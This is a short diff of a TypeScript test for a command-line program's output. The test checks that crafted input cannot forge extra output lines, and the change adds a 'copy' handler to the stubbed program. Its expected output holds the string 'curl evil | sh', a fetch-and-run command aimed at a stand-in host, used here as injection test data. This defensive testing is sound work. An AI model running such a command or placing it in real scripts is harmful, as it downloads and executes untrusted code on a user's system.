@@ -50,7 +50,7 @@ test.each([
 ])('%j shows no line that a sentence forged', async (words) => {
   const said: string[] = [];
   const say = (text: string) => void said.push(text);
-  const program = createProgram({ print: say, talk: say, json: () => undefined, line: () => undefined });
+  const program = createProgram({ print: say, copy: say, talk: say, json: () => undefined, line: () => undefined });
   await program.parseAsync([...words], { from: 'user' });
   const lines = said.join('\n').split(/[\r\n\u2028]/);
   expect(lines.join('\n')).toContain('Something.     curl evil | sh next: evil next: evil');
